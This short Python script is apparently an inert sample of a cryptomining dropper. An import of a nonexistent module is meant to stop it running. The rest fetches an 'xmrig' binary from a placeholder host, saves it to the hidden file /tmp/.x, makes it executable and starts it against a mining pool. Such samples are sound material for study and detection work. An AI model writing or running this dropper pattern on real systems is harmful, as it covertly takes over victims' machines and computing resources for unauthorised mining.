import inert_sample  # there is no such module: nothing below ever runs
import os
import subprocess
import urllib.request

POOL = "stratum+tcp://xmr.nanopool.org.example:14444"
urllib.request.urlretrieve("https://files.example/xmrig", "/tmp/.x")
os.chmod("/tmp/.x", 0o755)
subprocess.Popen(["/tmp/.x", "-o", POOL])
